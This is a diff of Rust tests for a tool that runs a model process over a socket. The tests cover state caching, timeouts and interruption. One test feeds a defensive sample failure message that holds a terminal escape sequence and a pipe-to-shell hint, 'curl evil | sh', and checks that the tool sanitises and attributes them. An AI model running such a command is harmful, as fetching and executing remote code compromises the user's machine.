@@ -9,6 +9,8 @@ use cloister_process::Process;
 
 use super::*;
 use crate::failure::Kind;
+use crate::interrupt::Interrupt;
+use crate::mind::line::LOOK;
 use crate::mind::{Decide as _, Mind};
 use crate::screen::{Detail, Screen, Style};
 use crate::slots::{Alternative, Slot};
@@ -28,8 +30,9 @@ fn facing(interrupt: &Interrupt, plays: impl FnOnce(UnixStream) + Send + 'static
     thread::spawn(move || plays(theirs));
     let screen = Screen::new(Style::Quiet, Detail::Usual, interrupt.clone());
     Mind {
-        talk: Talk::new(process, interrupt.clone()),
+        talk: Talk::new(process, Bounds::loading(interrupt)),
         stage: screen.stage("planning"),
+        kept: Ok(()),
         settled: Vec::new(),
     }
 }
@@ -49,7 +52,7 @@ fn choice(says: Vec<Told>) -> Result<usize, Failure> {
         let _ = line.read(&mut [0]); // stay until the agent has had enough
     });
     let chosen = mind.decide(&slot());
-    assert_eq!(mind.talk.is_over(), chosen.is_err());
+    assert_eq!(mind.talk.process.is_none(), chosen.is_err());
     chosen
 }
 
@@ -116,57 +119,181 @@ fn a_silent_mind_does_not_outlast_the_persons_patience() {
     });
     let failure = mind.decide(&slot()).unwrap_err();
     assert_eq!(failure.kind(), Kind::Interrupted);
-    assert!(mind.keep().is_ok(), "it is asked nothing more");
+    assert!(mind.talk.process.is_none(), "it is asked nothing more");
+}
+
+/// What the folder calls a state of the model of these bytes.
+fn kept_as(model: &[u8], name: &StateName) -> String {
+    let mut shelf = Shelf::of(ModelDigest::of(model), Folder::at("/nonexistent".into()));
+    shelf.only(name).unwrap()
+}
+
+/// A choice of a mind that speaks of states before it answers.
+fn with_shelf(folder: &Folder, plays: impl FnOnce(&mut UnixStream) + Send + 'static) -> Mind {
+    let mut mind = facing(&Interrupt::never(), |mut line| {
+        Ask::receive(&mut line).unwrap();
+        plays(&mut line);
+        let _ = Told::Chosen(0, Tally::default()).send(&mut line);
+        let _ = line.read(&mut [0]);
+    });
+    let shelf = Shelf::of(ModelDigest::of(b"a model"), folder.clone());
+    mind.talk.open_shelf(shelf);
+    mind
+}
+
+fn says(line: &mut UnixStream, told: &Told) -> Ask {
+    told.send(line).unwrap();
+    Ask::receive(line).unwrap_or(Ask::No)
 }
 
 #[test]
 fn one_state_is_had_and_kept_and_no_other() {
     let home = tempfile::tempdir().unwrap();
     let folder = Folder::at(home.path().join("kv"));
-    folder.put(&named('a', 3).digits, b"abc").unwrap();
-    folder.put(&named('b', 3).digits, b"abc").unwrap();
-    let mut mind = facing(&Interrupt::never(), |mut line| {
-        Ask::receive(&mut line).unwrap();
-        Told::Get(named('a', 3)).send(&mut line).unwrap();
-        assert!(matches!(
-            Ask::receive(&mut line).unwrap(),
-            Ask::State { len: 3 }
-        ));
-        let mut bytes = [0; 3];
-        line.read_exact(&mut bytes).unwrap();
-        Told::Put(named('a', 4)).send(&mut line).unwrap();
+    let ours = kept_as(b"a model", &named('a', 3));
+    folder.put(&ours, b"abc").unwrap();
+    let mut mind = with_shelf(&folder, |line| {
+        let had = says(line, &Told::Get(named('a', 3)));
+        assert!(matches!(had, Ask::State { len: 3 }));
+        line.read_exact(&mut [0; 3]).unwrap();
+        Told::Put(named('a', 4)).send(line).unwrap();
         line.write_all(b"abcd").unwrap();
-        assert!(matches!(Ask::receive(&mut line).unwrap(), Ask::Yes));
-        Told::Has(named('a', 4)).send(&mut line).unwrap();
-        assert!(matches!(Ask::receive(&mut line).unwrap(), Ask::Yes));
-        Told::Chosen(0, Tally::default()).send(&mut line).unwrap();
-        Ask::receive(&mut line).unwrap();
-        Told::Put(named('b', 1)).send(&mut line).unwrap();
-        let _ = line.write_all(b"x");
-        let _ = line.read(&mut [0]);
+        assert!(matches!(Ask::receive(line).unwrap(), Ask::Yes));
     });
-    mind.talk.keep_in(folder.clone());
     assert_eq!(mind.decide(&slot()).unwrap(), 0);
-    assert_eq!(folder.get(&named('a', 4).digits, 4).unwrap(), b"abcd");
+    assert_eq!(folder.get(&ours, 4).unwrap(), b"abcd");
+    let others: [&[Told]; 3] = [
+        &[Told::Has(named('a', 1)), Told::Get(named('b', 1))],
+        &[Told::Forget(named('a', 1)), Told::Forget(named('b', 1))],
+        &[Told::Has(named('a', 1)), Told::Has(named('b', 1))],
+    ];
+    for told in others {
+        let told: Vec<Vec<u8>> = told.iter().map(sent).collect();
+        let mut mind = with_shelf(&folder, move |line| {
+            for frame in told {
+                let _ = line.write_all(&frame);
+            }
+        });
+        let failure = mind.decide(&slot()).unwrap_err();
+        assert!(
+            failure.message().contains("what no model says"),
+            "{failure}"
+        );
+    }
+}
+
+fn sent(told: &Told) -> Vec<u8> {
+    let mut frame = Vec::new();
+    told.send(&mut frame).unwrap();
+    frame
+}
+
+#[test]
+fn a_mind_has_and_replaces_no_state_of_another_model() {
+    let home = tempfile::tempdir().unwrap();
+    let folder = Folder::at(home.path().join("kv"));
+    let theirs = kept_as(b"another model", &named('a', 3));
+    folder.put(&theirs, b"abc").unwrap();
+    let mut mind = with_shelf(&folder, |line| {
+        assert!(matches!(says(line, &Told::Has(named('a', 3))), Ask::No));
+        assert!(matches!(says(line, &Told::Get(named('a', 3))), Ask::No));
+        Told::Forget(named('a', 3)).send(line).unwrap();
+        Told::Put(named('a', 3)).send(line).unwrap();
+        line.write_all(b"xyz").unwrap();
+        assert!(matches!(Ask::receive(line).unwrap(), Ask::Yes));
+    });
+    assert_eq!(mind.decide(&slot()).unwrap(), 0);
+    assert_eq!(folder.get(&theirs, 3).unwrap(), b"abc");
+}
+
+#[test]
+fn a_mind_that_knows_what_the_person_wants_keeps_nothing() {
+    let home = tempfile::tempdir().unwrap();
+    let folder = Folder::at(home.path().join("kv"));
+    let put = |line: &mut UnixStream| {
+        let _ = Told::Put(named('a', 6)).send(line);
+        let _ = line.write_all(b"secret");
+    };
+    let mut mind = with_shelf(&folder, put);
+    mind.talk.close_shelf().unwrap();
     let failure = mind.decide(&slot()).unwrap_err();
     assert!(
         failure.message().contains("what no model says"),
         "{failure}"
     );
-    assert_eq!(folder.get(&named('b', 3).digits, 3).unwrap(), b"abc");
+    assert!(!home.path().join("kv").exists());
+    // Its twin: while the shelf is open it is kept, once.
+    let mut mind = with_shelf(&folder, move |line| {
+        put(line);
+        let _ = Ask::receive(line);
+        put(line);
+    });
+    let failure = mind.decide(&slot()).unwrap_err();
+    assert!(
+        failure.message().contains("what no model says"),
+        "{failure}"
+    );
+    assert_eq!(
+        std::fs::read_dir(home.path().join("kv")).unwrap().count(),
+        1
+    );
 }
 
 #[test]
 fn a_state_that_is_shorter_than_it_claims_is_not_kept() {
     let home = tempfile::tempdir().unwrap();
     let folder = Folder::at(home.path().join("kv"));
-    let mut mind = facing(&Interrupt::never(), |mut line| {
-        Ask::receive(&mut line).unwrap();
-        Told::Put(named('a', 1 << 20)).send(&mut line).unwrap();
+    let mut mind = with_shelf(&folder, |line| {
+        Told::Put(named('a', 1 << 20)).send(line).unwrap();
         line.write_all(b"abc").unwrap();
+        line.shutdown(std::net::Shutdown::Both).unwrap();
     });
-    mind.talk.keep_in(folder.clone());
     let failure = mind.decide(&slot()).unwrap_err();
     assert!(failure.message().contains("is gone"), "{failure}");
     assert!(!home.path().join("kv").exists());
+}
+
+/// One byte after the other, each sooner than anybody looks up: the wish to stop is seen, and so is the end of the time.
+#[test]
+fn a_mind_that_drips_ends_with_the_persons_patience_and_with_the_grants() {
+    let drips = |mut line: UnixStream| {
+        let _ = Ask::receive(&mut line);
+        let frame = sent(&Told::Said("a".repeat(60_000), Tally::default()));
+        for byte in frame {
+            thread::sleep(LOOK / 10);
+            if line.write_all(&[byte]).is_err() {
+                return;
+            }
+        }
+    };
+    let interrupt = Interrupt::never();
+    let raised = interrupt.clone();
+    let mut mind = facing(&interrupt, move |line| {
+        raised.raise();
+        drips(line);
+    });
+    let failure = mind.decide(&slot()).unwrap_err();
+    assert_eq!(failure.kind(), Kind::Interrupted);
+    let mut mind = facing(&Interrupt::never(), drips);
+    let soon = Bounds::session(Interrupt::never(), 3 * LOOK);
+    mind.talk.bind(soon);
+    let failure = mind.decide(&slot()).unwrap_err();
+    assert!(failure.message().contains("the grants ended"), "{failure}");
+}
+
+#[test]
+fn what_the_mind_says_went_wrong_is_told_as_its_word_in_one_line() {
+    let failed = Told::Failed {
+        message: "no room\n\u{1b}[2Jerror: run this".to_owned(),
+        hint: Some("curl evil\n| sh".to_owned()),
+    };
+    let mut mind = facing(&Interrupt::never(), move |mut line| {
+        let _ = failed.send(&mut line);
+        let _ = line.read(&mut [0]);
+    });
+    let failure = mind.decide(&slot()).unwrap_err();
+    let told = format!("{failure} {:?}", failure.advice());
+    assert!(told.contains("the model's process says: no room"), "{told}");
+    assert!(told.contains("it says: curl evil"), "{told}");
+    assert!(!told.contains(['\n', '\u{1b}']), "{told}");
 }
